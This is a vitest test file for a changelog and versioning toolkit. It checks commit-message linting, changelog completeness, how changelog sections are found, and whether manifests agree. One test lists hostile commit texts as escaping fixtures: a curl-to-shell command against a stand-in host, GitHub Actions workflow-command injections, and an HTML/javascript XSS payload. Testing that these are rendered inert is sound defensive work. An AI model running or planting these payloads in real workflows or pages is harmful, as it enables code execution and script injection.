import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join, resolve } from "node:path";
import { describe, expect, test } from "vitest";
import { escapeMarkdown } from "../../packages/kit/src/report/escape.ts";
import { findSection } from "../../packages/versioning/src/changelog.ts";
import { writeChanges } from "../../packages/versioning/src/changelog-markdown.ts";
import { collectChanges, type LoggedCommit } from "../../packages/versioning/src/commit-changelog.ts";
import { lintCommit } from "../../packages/versioning/src/commit-lint.ts";
import { CONVENTIONAL_RULES } from "../../packages/versioning/src/commit-rules.ts";
import { parseCommit } from "../../packages/versioning/src/conventional-commit.ts";
import { limitNotes, MAX_NOTES_CHARACTERS } from "../../packages/versioning/src/notes-limit.ts";
import { parseVersion } from "../../packages/versioning/src/semver.ts";
import { parseTag } from "../../packages/versioning/src/tag.ts";
import { compareManifests, READ_FILE_NAMES, readManifests } from "../../packages/versioning/src/version-files.ts";

const ROOT = resolve(import.meta.dirname, "../..");

/** A repository's history, newest first; empty outside of one. */
function history(folder: string): LoggedCommit[] {
  try {
    const log = execFileSync("git", ["-C", folder, "log", "-z", "--format=%H%n%P%n%an%n%ae%n%B"], {
      encoding: "utf8",
      stdio: ["ignore", "pipe", "ignore"],
      maxBuffer: 1 << 30,
    });
    return log
      .split("\0")
      .filter((entry) => entry !== "")
      .map((entry) => {
        const [sha = "", parents = "", authorName = "", authorEmail = "", ...message] = entry.split("\n");
        return {
          sha,
          parents: parents.split(" ").filter(Boolean),
          authorName,
          authorEmail,
          message: message.join("\n"),
        };
      });
  } catch {
    return [];
  }
}

const WRITING = { escape: escapeMarkdown, level: 3, contributors: true } as const;

describe("our own history", () => {
  const commits = history(ROOT);

  test.runIf(commits.length > 0)("every commit keeps the form that we ask of others", () => {
    for (const { message } of commits) {
      const commit = parseCommit(message);
      expect([commit.header, commit.kind === "unconventional", commit.problems]).toEqual([commit.header, false, []]);
      const { problems } = lintCommit(
        message,
        { "type-enum": CONVENTIONAL_RULES["type-enum"]!, "type-empty": CONVENTIONAL_RULES["type-empty"]! },
        { defaultIgnores: true },
      );
      expect([commit.header, problems]).toEqual([commit.header, []]);
    }
  });

  test.runIf(commits.length > 0)("a changelog has them all, and fits a release", () => {
    const changes = collectChanges(commits);
    const shown = changes.groups.flatMap((group) => group.changes);
    const paired = changes.reverts.flatMap(({ revert, reverted }) => [revert, ...reverted]);
    expect(shown.length + paired.length + changes.omitted.length).toBe(commits.length);
    const text = writeChanges(changes, WRITING);
    for (const { sha } of shown) expect(text).toContain(`\`${sha.slice(0, 7)}\``);
    const limited = limitNotes(text.repeat(20), "more").text;
    expect(limited.length).toBeLessThanOrEqual(MAX_NOTES_CHARACTERS);
  });
});

/** Texts of attacks on workflows that handle titles (research on pull_request_target, GHSA-cxm3-wv7p-598c), and of Markdown. */
const HOSTILE = [
  "$(curl https://evil.test | sh)",
  "EOF\n::set-output name=x::y",
  "`whoami`",
  "@octocat @org/team #1 GH-2",
  "<img src=x onerror=alert(1)></details>",
  "[click](javascript:alert(1)) ![x](https://evil.test/x.png)",
  "%0A::error::x",
  "a\u202egnp.exe",
  "</table>|x|y|",
  "<<ghadelimiter_0",
  "# heading",
  "- [ ] task",
];

test("text of commits is inert in notes that kit escapes", () => {
  const commits = HOSTILE.flatMap((text, at) =>
    [
      `fix: ${text}`,
      `feat(${text.replace(/[()\n]/g, "")})!: x`,
      text,
      `fix: x\n\nBREAKING CHANGE: ${text}\n\n- ${text}`,
    ].map((message, form) => ({
      sha: (at * 10 + form).toString(16).padStart(40, "a"),
      parents: [],
      message,
      authorName: text,
      authorEmail: `${at}@example.com`,
    })),
  );
  const text = writeChanges(collectChanges(commits), WRITING);
  for (const line of text.split("\n")) {
    expect(line).toMatch(/^(?:$|### |- | {2}\S)/);
    expect(line.replaceAll("<span>$</span>", "")).not.toMatch(/[<>\u202e]/);
    expect(line.replace(/&#[0-9]+;/g, "")).not.toMatch(/@[a-z]|(?<!\\)\]\(|(?<!\\)#[0-9]|^::/);
  }
});

/** Changelogs of packages and crates that happen to be here. */
function changelogs(): string[] {
  const found: string[] = [];
  const look = (folder: string, depth: number) => {
    if (!existsSync(folder)) return;
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = join(folder, entry.name);
      if (entry.isDirectory() && depth > 0) look(path, depth - 1);
      else if (/^(?:changelog|history|releases|changes)\.md$/i.test(entry.name)) found.push(path);
    }
  };
  look(join(ROOT, "node_modules"), 2);
  look(join(process.env.CARGO_HOME ?? join(homedir(), ".cargo"), "registry/src"), 2);
  return found;
}

test.each(changelogs())("%s: each version that a heading names is found there", (path) => {
  const text = readFileSync(path, "utf8");
  const first = new Map<string, number>();
  for (const [at, line] of text.split(/\r?\n/).entries()) {
    const version = /^#{1,4} (?:(?:Version|Release) )?\[?v?([0-9]+\.[0-9]+\.[0-9]+)(?=[\]( ,]|$)/.exec(line)?.[1];
    if (version !== undefined && parseVersion(version) !== undefined && !first.has(version)) first.set(version, at + 1);
  }
  for (const [version, line] of first) {
    const { section } = findSection(text, parseVersion(version)!);
    expect([version, section?.match, section?.line]).toEqual([version, "exact", line]);
    // Nothing of another version of the same rank slips in.
    expect(section!.body.split("\n").filter((each) => each === section!.heading)).toEqual([]);
  }
});

test("our own manifests and lock file agree with each other", async () => {
  const files = new Map<string, string>();
  const add = (path: string) => existsSync(join(ROOT, path)) && files.set(path, readFileSync(join(ROOT, path), "utf8"));
  for (const name of READ_FILE_NAMES) add(name);
  for (const folder of ["packages", "actions"]) {
    for (const name of readdirSync(join(ROOT, folder))) add(`${folder}/${name}/package.json`);
  }
  const { version } = JSON.parse(files.get("package.json")!) as { version: string };
  const report = compareManifests(parseTag(`v${version}`)!, await readManifests(["package.json"], files));
  expect(report.problems).toEqual([]);
  expect(report.agreeing.map((each) => `${each.file} ${each.field}`)).toEqual([
    "package.json version",
    "package-lock.json version",
    'package-lock.json packages[""].version',
  ]);
});
